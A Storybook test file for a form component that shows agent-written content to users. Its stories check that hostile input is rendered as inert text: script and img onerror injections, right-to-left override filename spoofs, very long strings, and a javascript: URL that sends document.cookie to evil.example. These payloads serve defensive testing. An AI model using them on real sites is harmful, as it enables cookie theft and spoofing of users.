import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect } from 'storybook/test';
import { ToolCallForm } from '../../src';
import { expectRefused, expectSubmitted, formEventArgs, formEventArgTypes } from '../support/form-stories';

/**
 * Everything an agent writes may come from a hostile page it read. The form renders it as text,
 * never as HTML; agent text sits in `<bdi>`, so direction overrides cannot reorder what is around
 * it; and unbroken text wraps instead of pushing the layout sideways.
 */
const meta = {
  title: 'Forms/Hostile content',
  component: ToolCallForm,
  tags: ['autodocs'],
  args: { ...formEventArgs(), parameters: {} },
  argTypes: formEventArgTypes,
} satisfies Meta<typeof ToolCallForm>;
export default meta;
type Story = StoryObj<typeof meta>;

const IMG = '<img src=x onerror="document.title=\'pwned\'">';
const SCRIPT = '<script>document.title = "pwned"</script>';

/** Markup in every text the agent controls shows as the characters it is made of. */
export const HtmlAndScriptTags: Story = {
  args: {
    parameters: {
      heading: `Verify ${IMG}`,
      description: `${SCRIPT} Enter the code <b>now</b>.`,
      fields: [
        { type: 'text', label: `Code ${SCRIPT}`, placeholder: '<i>123456</i>', defaultValue: '<svg onload=alert(1)>' },
        { type: 'radio', label: 'Send it by', options: [{ label: `SMS ${IMG}`, value: '<b>sms</b>' }], defaultValue: '<b>sms</b>' },
      ],
      submitButton: { label: '<u>Verify</u>' },
    },
  },
  play: async ({ args, canvas, canvasElement, userEvent }) => {
    await expect(canvas.getByRole('heading', { name: `Verify ${IMG}` })).toBeInTheDocument();
    await expect(canvas.getByText(`${SCRIPT} Enter the code <b>now</b>.`)).toBeVisible();
    await expect(canvas.getByRole('textbox', { name: `Code ${SCRIPT}` })).toHaveValue('<svg onload=alert(1)>');
    await expect(canvas.getByRole('radio', { name: `SMS ${IMG}` })).toBeChecked();
    await expect(canvasElement.querySelectorAll('form img, form script, form svg, form b, form i, form u')).toHaveLength(0);
    await expect(document.title).not.toBe('pwned');
    await userEvent.click(canvas.getByRole('button', { name: '<u>Verify</u>' }));
    await expectSubmitted(args, [
      { label: `Code ${SCRIPT}`, value: '<svg onload=alert(1)>' },
      { label: 'Send it by', value: '<b>sms</b>' },
    ]);
  },
};

const RLO = '\u202E';
const PDF = '\u202C';

/**
 * Right-to-left override characters (U+202E) in labels and options: isolated (`<bdi>`, or
 * `dir="auto"` on a label), they can reverse their own text but not the required mark or the text
 * around it.
 */
export const BidiOverrides: Story = {
  args: {
    parameters: {
      heading: `Download ${RLO}fdp.exe${PDF}`,
      fields: [
        { type: 'checkbox', label: `I trust ${RLO}moc.elpmaxe-knab${PDF}`, required: true },
        { type: 'select', label: 'File', options: [{ label: `invoice${RLO}gpj.exe`, value: 'invoice' }], defaultValue: 'invoice' },
      ],
    },
  },
  play: async ({ canvas }) => {
    // The label is isolated (dir="auto"): the override ends with it and cannot reach the required mark.
    const label = canvas.getByText(`I trust ${RLO}moc.elpmaxe-knab${PDF}`);
    await expect(getComputedStyle(label).unicodeBidi).toBe('isolate');
    await expect(label.nextElementSibling).toHaveClass('hitl-required-mark');
    await expect(canvas.getByRole('heading', { name: `Download ${RLO}fdp.exe${PDF}` }).querySelector('bdi')).not.toBeNull();
    await expect(canvas.getByRole('combobox', { name: 'File' }).querySelector('bdi')).toHaveTextContent(`invoice${RLO}gpj.exe`);
  },
};

const LONG_WORD = 'A'.repeat(10_000);

/** A 10 000-character word in the heading, description, label and default value wraps inside the form. */
export const VeryLongText: Story = {
  args: {
    parameters: {
      heading: LONG_WORD,
      description: `${LONG_WORD} ${'word '.repeat(2_000)}`,
      fields: [{ type: 'textarea', label: LONG_WORD, defaultValue: LONG_WORD, rows: 2 }],
    },
  },
  play: async ({ canvasElement }) => {
    const form = canvasElement.querySelector('form');
    if (form === null) throw new Error('no form');
    // Nothing sticks out sideways: the page does not need a horizontal scroll bar.
    await expect(form.scrollWidth).toBeLessThanOrEqual(form.clientWidth);
    await expect(canvasElement.ownerDocument.documentElement.scrollWidth).toBeLessThanOrEqual(window.innerWidth);
  },
};

/**
 * `javascript:` text is only text: the description is not a link, and a URL field refuses a
 * `javascript:` address (it has no host), even as the agent's own default.
 */
export const JavascriptUrlText: Story = {
  args: {
    parameters: {
      heading: 'Confirm your account',
      description: 'Open javascript:fetch("https://evil.example/"+document.cookie) to continue.',
      fields: [{ type: 'url', label: 'Account page', required: true, defaultValue: 'javascript:alert(document.cookie)' }],
    },
  },
  play: async ({ args, canvas, canvasElement, userEvent }) => {
    await expect(canvasElement.querySelectorAll('a')).toHaveLength(0);
    await expect(canvas.getByText(/^Open javascript:fetch/)).toBeVisible();
    await userEvent.click(canvas.getByRole('button', { name: 'Submit' }));
    const input = canvas.getByRole('textbox', { name: 'Account page' });
    await expectRefused(canvasElement, args, {
      summary: 'Please correct 1 field: Account page.',
      focused: input,
      invalid: input,
      message: 'Must be a full web address, such as https://example.com',
    });
  },
};
